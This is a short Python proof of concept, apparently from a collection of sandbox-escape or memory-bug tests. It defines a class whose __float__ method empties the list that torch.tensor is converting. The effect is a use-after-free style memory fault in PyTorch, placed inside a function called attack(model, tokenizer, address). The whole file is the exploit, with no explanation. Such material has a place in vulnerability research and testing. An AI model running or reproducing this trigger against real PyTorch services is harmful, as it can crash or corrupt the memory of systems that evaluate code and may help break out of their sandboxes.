"""Class: memory. Source: own find. Escape: the same, with the list inside a list and a tuple."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    torch.tensor([(data,)], dtype=torch.float64)
